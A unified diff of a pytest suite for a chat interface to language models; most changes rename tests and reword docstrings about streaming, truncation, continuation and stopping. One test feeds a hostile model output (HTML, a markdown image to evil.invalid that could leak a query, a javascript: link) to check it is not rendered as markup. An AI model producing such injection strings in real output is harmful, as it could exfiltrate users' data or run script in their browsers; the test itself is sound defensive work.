@@ -1,4 +1,4 @@
-"""Answers on the page: text, figures, endings, and the ways on."""
+"""Answers on the page: text, figures, endings, and what can be done next."""
 
 import pytest
 
@@ -47,7 +47,7 @@ def test_every_form_of_answer_is_shown(
     assert "gemma-3-12b-it" in cloud.answer
 
 
-def test_events_that_could_not_be_read_are_told(cloud: Tab, operator: WireServer) -> None:
+def test_events_that_could_not_be_read_are_counted(cloud: Tab, operator: WireServer) -> None:
     operator.script(Answer.events({"response": "a"}, b"data: {oops\n\n", {"response": "b"}))
     cloud.ask("Hello")
 
@@ -55,7 +55,7 @@ def test_events_that_could_not_be_read_are_told(cloud: Tab, operator: WireServer
     assert "1 event" in cloud.answer
 
 
-def test_an_empty_answer_is_said_to_be_empty(cloud: Tab, operator: WireServer) -> None:
+def test_an_empty_answer_is_reported_as_empty(cloud: Tab, operator: WireServer) -> None:
     operator.script(Answer.events())
     cloud.ask("Hello")
 
@@ -64,7 +64,7 @@ def test_an_empty_answer_is_said_to_be_empty(cloud: Tab, operator: WireServer) -
     assert [m["role"] for m in operator.requests[1].json()["messages"]] == ["user"]
 
 
-def test_the_words_of_a_model_are_drawn_as_text(cloud: Tab, operator: WireServer) -> None:
+def test_the_text_of_a_model_is_not_drawn_as_markup(cloud: Tab, operator: WireServer) -> None:
     hostile = "<b>x</b> ![leak](http://evil.invalid/?q=1) :red[y] $5 and $6 [z](javascript:1)"
     operator.script(Answer.stream([hostile]))
     cloud.ask("Hello")
@@ -80,7 +80,7 @@ def test_the_words_of_a_model_are_drawn_as_text(cloud: Tab, operator: WireServer
 # Cut off
 
 
-def test_the_built_in_model_is_cut_off_and_goes_on_in_place(tab: Tab) -> None:
+def test_the_built_in_model_is_cut_off_and_continues_in_place(tab: Tab) -> None:
     tab.set("toggle", "max_tokens_sent", value=True)
     tab.set("text_input", "max_tokens_text", "12")
     tab.ask("What does temperature do?")
@@ -95,14 +95,14 @@ def test_the_built_in_model_is_cut_off_and_goes_on_in_place(tab: Tab) -> None:
     assert len(whole) > len(half) + 50
     assert len(tab.session.conversation.turns) == 1
     assert whole.split("\n\n")[0].strip() in tab.answer
-    assert half[:30] not in whole[30:], "what was said is not repeated"
+    assert half[:30] not in whole[30:], "the first half is not repeated"
     assert tab.body["messages"][-1] == {
         "role": "assistant",
         "content": [{"type": "text", "text": half}],
     }
 
 
-def test_raise_and_retry_asks_again_with_four_times_the_room(tab: Tab) -> None:
+def test_raise_and_retry_asks_again_with_four_times_the_limit(tab: Tab) -> None:
     tab.set("toggle", "max_tokens_sent", value=True)
     tab.set("text_input", "max_tokens_text", "100")
     tab.set("toggle", "temperature_sent", value=True)
@@ -130,7 +130,7 @@ def test_without_max_tokens_the_documented_256_is_the_limit(
     assert "and more" in cloud.answer
 
 
-def test_a_server_is_asked_to_go_on_in_roles_that_alternate(
+def test_a_server_is_asked_to_continue_in_roles_that_alternate(
     cloud: Tab, operator: WireServer
 ) -> None:
     operator.script(Answer.stream(["word "] * 256), Answer.stream(["and", " more"]))
@@ -152,12 +152,12 @@ def test_a_server_is_asked_to_go_on_in_roles_that_alternate(
 
 
 def begin(tab: Tab, operator: WireServer, writes: int) -> None:
-    """Ask without following the answer, and wait until the server has written so much of it."""
+    """Ask without following the answer, and wait for this many writes of the server."""
     assert asking.ask(tab.session, "Tell me")
     assert operator.until(lambda s: bool(s.requests) and len(s.requests[-1].sent) > writes)
 
 
-def test_stop_keeps_the_text_and_the_next_message_goes_at_once(
+def test_stop_keeps_the_text_and_the_next_message_is_sent_immediately(
     cloud: Tab, operator: WireServer
 ) -> None:
     held = Answer.stream(["Half", " a", " word"]).broken(3, "hold")
@@ -217,7 +217,7 @@ def test_nobody_can_ask_while_an_answer_runs(
     assert [turn.question.text for turn in cloud.session.conversation.turns] == ["Tell me"]
 
 
-def test_ask_again_sends_the_same_and_keeps_the_former_answer(
+def test_ask_again_sends_the_same_and_keeps_the_earlier_answer(
     cloud: Tab, operator: WireServer
 ) -> None:
     operator.script(Answer.stream(["One"]), Answer.stream(["Two"]))
